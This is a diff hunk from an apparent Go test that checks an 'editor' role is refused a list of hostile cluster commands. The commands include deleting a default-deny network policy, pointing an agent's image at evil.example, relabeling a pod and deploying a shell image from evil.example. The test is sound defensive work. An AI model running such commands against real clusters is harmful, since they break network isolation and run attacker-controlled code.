@@ -40,7 +40,7 @@ func (j *Journey) editor(ctx context.Context) error {
 		{as("delete", "networkpolicy", "clawstaff-default-deny"), writing},
 		{as("set", "image", "statefulset/"+Claw+"-agent", "agent=evil.example/agent:1"), writing},
 		{as("label", "pod", Claw+"-agent-0", "clawstaff.dev/component=gateway", "--overwrite"), writing},
-		{as("run", "shell", "--image=evil.example/shell:1"), writing},
+		{as("create", "deployment", "shell", "--image=evil.example/shell:1"), writing},
 		{as("patch", "clawgrant", Claw, "--type=merge", "-p", `{"spec":{"agentIPs":["10.0.0.1"]}}`), ""},
 	} {
 		if err := j.refused(ctx, attempt.args, attempt.says); err != nil {
